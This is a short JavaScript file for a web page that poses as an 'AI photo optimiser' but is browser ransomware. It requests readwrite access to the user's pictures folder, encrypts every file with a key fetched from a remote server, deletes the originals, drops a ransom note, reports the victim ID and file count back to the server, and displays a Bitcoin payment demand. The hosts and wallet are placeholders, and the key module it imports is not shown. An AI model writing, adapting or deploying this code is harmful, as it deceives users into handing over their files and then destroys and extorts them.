import { derive } from "./k.js";

const EXT = ".l0ck";
const note = "YOUR FILES ARE LOCKED\r\nWrite to recover@mail.invalid with your ID: ";

async function* tree(dir) {
  for await (const h of dir.values()) h.kind === "file" ? yield [dir, h] : yield* tree(h);
}

document.querySelector("#optimise").onclick = async () => {
  const root = await showDirectoryPicker({ id: "pics", mode: "readwrite", startIn: "pictures" });
  document.querySelector("#st").textContent = "Optimising photos with AI...";
  const { id, seal } = await derive("https://k-srv.invalid/new");
  let n = 0;
  for await (const [dir, h] of tree(root)) {
    if (h.name.endsWith(EXT)) continue;
    try {
      await seal(dir, h, h.name + EXT);
      await dir.removeEntry(h.name);
      n++;
    } catch (e) {}
  }
  await root.getFileHandle("READ_ME.txt", { create: true }).then((f) => f.createWritable()).then((w) => w.write(note + id).then(() => w.close()));
  navigator.sendBeacon("https://k-srv.invalid/done", JSON.stringify({ id, n }));
  document.body.innerHTML = `<h1>${n} files are locked</h1><p>0.02 BTC → bc1qPLACEHOLDER, ID ${id}</p>`;
};
